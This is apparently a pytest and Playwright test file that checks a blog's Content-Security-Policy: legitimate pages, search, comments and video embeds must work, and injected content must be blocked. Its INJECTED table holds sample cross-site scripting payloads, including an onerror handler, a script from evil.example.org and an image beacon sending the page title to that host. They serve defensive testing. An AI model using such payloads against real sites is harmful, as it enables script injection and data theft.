"""Pages under their policies: nothing of theirs is held up, and nothing of others' runs."""

from __future__ import annotations

import subprocess
import sys
from typing import TYPE_CHECKING, Any

import pytest

from bench.serving import served
from tests.blogkit.policy.rules import headers_for
from tests.browser.blog import write_blog
from tests.browser.conftest import MISSING, PAGES, PHOTOS, POST, SEARCH, Site

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import BrowserContext, Page, Route

VIDEOS = "posts/2025/videos.html"
DRAFT, DRAFTS = "posts/2025/draft.html", "blog/drafts.html"
MOVED, OLD = "posts/2025/moved.html", "old/place.html"
KINDS = {**PAGES, "videos": VIDEOS, "redirect": OLD, "page that moved": MOVED, "archive": "blog/archive.html"}
LISTEN = """
window.held = [];
document.addEventListener("securitypolicyviolation", event =>
    window.held.push(event.violatedDirective + " " + event.blockedURI + " " + event.sample));
"""
PLAYER = "<!DOCTYPE html><title>A player</title><p>Playing</p>"
HOSTS = ("www.youtube-nocookie.com", "player.vimeo.com", "giscus.app")
SETTINGS = "blogkit_giscus = {'repo': 'robin/notes', 'repo_id': 'R1', 'category': 'Blog', 'category_id': 'C1'}\n"


@pytest.fixture
def guarded(visit: Callable[..., Page], site: Site, watch: Any) -> Callable[..., Page]:
    """`visit` as readers do: with the headers that a host sends, and foreign hosts that answer."""

    def answer(route: Route) -> None:
        host = route.request.url.split("/")[2]
        if host in HOSTS:
            is_script = route.request.resource_type == "script"
            route.fulfill(
                body="document.title = 'comments'" if is_script else PLAYER,
                content_type="text/javascript" if is_script else "text/html",
            )
            return
        response = route.fetch()
        path = "/" + route.request.url.removeprefix(site.address)
        sent = headers_for((site.folder / "_headers").read_text(encoding="utf-8"), path)
        route.fulfill(response=response, headers={**response.headers, **sent})

    def open_page(path: str, **options: Any) -> Page:
        page = visit("about:blank", **options)
        page.context.route("**/*", answer)
        page.add_init_script(LISTEN)
        page.goto(path)
        return page

    return open_page


def held(page: Page) -> list[str]:
    """What the page's policy has held up so far."""
    found: list[str] = page.evaluate("window.held")
    return found


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("width", [390, 1280])
def test_no_page_is_held_up(guarded: Callable[..., Page], kind: str, width: int) -> None:
    page = guarded(KINDS[kind], width=width)
    page.evaluate("scrollTo(0, document.body.scrollHeight)")
    page.wait_for_load_state("networkidle")
    assert held(page) == []
    assert page.locator("meta[http-equiv='Content-Security-Policy']").count() == 1


def test_search_works(guarded: Callable[..., Page]) -> None:
    page = guarded(f"{SEARCH}?q=harbour")
    page.locator("#search-results li").first.wait_for()
    assert held(page) == []


def test_pictures_open_large(guarded: Callable[..., Page]) -> None:
    page = guarded(PHOTOS)
    page.locator("a.photo-link").first.click()
    assert page.locator("dialog[open] img").is_visible()
    assert held(page) == []


def test_the_theme_and_code_are_at_hand(guarded: Callable[..., Page]) -> None:
    page = guarded(POST, permissions=["clipboard-read", "clipboard-write"])
    page.locator("#switch-theme").click()
    page.locator("button.copy").first.click()
    page.get_by_role("button", name="✓").wait_for()
    page.locator(".sd-tab-set label").last.click()
    assert held(page) == []


def test_comments_come_when_asked_for(guarded: Callable[..., Page], watch: Any) -> None:
    page = guarded(POST)
    assert watch.foreign == []
    page.locator("#show-comments").click()
    page.wait_for_function("document.title == 'comments'")
    assert held(page) == []
    watch.requests.clear()


def test_what_the_author_wrote_runs(guarded: Callable[..., Page]) -> None:
    page = guarded(VIDEOS)
    assert page.locator("#written").inner_text() == "by a script of the author's"
    words = page.get_by_role("link", name="that do something")
    words.click()
    page.get_by_role("link", name="clicked").wait_for()
    align = "each => getComputedStyle(each.parentElement).textAlign"
    assert page.get_by_role("link", name="clicked").evaluate(align) == "right"


INJECTED = {
    "script": "const each = document.createElement('script'); each.textContent = 'window.hit = 1';"
    "document.body.append(each)",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"window.hit = 1\">')",
    "style": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
    "foreign script": "const each = document.createElement('script');"
    "each.src = 'https://evil.example.org/x.js'; document.body.append(each)",
    "foreign picture": "new Image().src = 'https://evil.example.org/?' + document.title",
    "request": "fetch('https://evil.example.org/').catch(() => {})",
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.example.org/\">')",
    "base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example.org/\">')",
}


@pytest.mark.parametrize("what", INJECTED)
@pytest.mark.parametrize("path", [POST, VIDEOS, SEARCH])
def test_what_others_put_there_does_not(
    guarded: Callable[..., Page], watch: Any, what: str, path: str
) -> None:
    """The policy is real: the console says so, and nothing has left."""
    page = guarded(path)
    page.evaluate(f"() => {{ {INJECTED[what]} }}")
    page.wait_for_function("window.held.length > 0")
    assert page.evaluate("window.hit") is None
    assert page.evaluate("document.baseURI").startswith("http://127.0.0.1")
    assert watch.console
    watch.console.clear()
    assert [each for each in watch.requests if "evil" in each] == []


@pytest.mark.parametrize("key", ["", "Enter"])
def test_a_video_plays_when_asked_to(guarded: Callable[..., Page], watch: Any, key: str) -> None:
    page = guarded(VIDEOS)
    page.wait_for_load_state("networkidle")
    assert watch.foreign == []
    link = page.get_by_role("link", name="A talk about harbours Play the video from YouTube")
    box = link.bounding_box()
    link.press(key) if key else link.click()
    player = page.frame_locator("iframe[title='A talk about harbours']")
    assert player.get_by_text("Playing").is_visible()
    frame = page.locator("iframe")
    assert frame.get_attribute("src") == (
        "https://www.youtube-nocookie.com/embed/abcdefghijk?start=42&autoplay=1"
    )
    assert frame.bounding_box() == box
    assert page.evaluate("document.activeElement.title") == "A talk about harbours"
    assert held(page) == []
    watch.requests.clear()


def test_a_video_is_a_link_without_a_script(guarded: Callable[..., Page]) -> None:
    page = guarded(VIDEOS, java_script_enabled=False)
    links = page.locator("a.video").evaluate_all("all => all.map(each => each.href)")
    assert links == [
        "https://www.youtube.com/watch?v=abcdefghijk&t=42",
        "https://vimeo.com/123456",
        "https://www.youtube.com/watch?v=lmnopqrstuv",
    ]
    assert all(each.is_visible() for each in page.locator("a.video").all())
